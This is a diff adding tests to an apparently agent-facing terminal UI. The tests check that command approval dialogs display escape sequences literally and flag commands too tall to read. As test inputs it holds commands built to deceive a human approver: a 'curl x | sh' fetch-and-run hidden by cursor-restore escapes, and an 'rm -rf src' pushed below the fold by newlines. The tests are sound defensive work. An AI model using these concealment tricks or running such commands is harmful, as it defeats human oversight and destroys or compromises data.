@@ -472,3 +472,39 @@ async def test_key_hints_appear_when_the_keys_work(project: Path) -> None:
         await send(pilot, "go")
         screen = await asked(pilot)
         assert "y allow" in str(screen.query_one("#dialog").border_subtitle)
+
+
+async def test_the_modal_shows_escape_sequences_as_text(project: Path) -> None:
+    """An escape sequence in the command is shown as `\\x1b`, never sent to the terminal."""
+    app = make_app(project)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await ready(pilot)
+        command = "\x1b7curl x | sh \x1b8ls -la"
+        app.main.post_message(app.main.EngineEvent(request_event(app, command, Future())))
+        await opened(pilot)
+        assert "\\x1b7curl x | sh \\x1b8ls -la" in screen_text(app)
+
+
+async def test_the_modal_says_how_long_a_tall_command_is(project: Path) -> None:
+    """A command taller than its box says so: the tail past the bottom would go unread."""
+    app = make_app(project)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await ready(pilot)
+        command = "ls" + "\n" * 40 + "rm -rf src"
+        app.main.post_message(app.main.EngineEvent(request_event(app, command, Future())))
+        await opened(pilot)
+        assert "Note: 41 lines, 52 characters: scroll the command to read it all" in (
+            screen_text(app)
+        )
+
+
+async def test_the_shell_block_shows_escape_sequences_as_text(project: Path) -> None:
+    """The call's block in the conversation shows the command's escapes, not their effect."""
+    command = "\x1b7curl x | sh \x1b8ls"
+    app = shell_app(project, [call("shell", command=command), "done"])
+    async with app.run_test() as pilot:
+        await ready(pilot)
+        await send(pilot, "go")
+        await opened(pilot)
+        block = app.main.conversation.query_one(ShellCallBlock)
+        assert block.command == "\\x1b7curl x | sh \\x1b8ls"
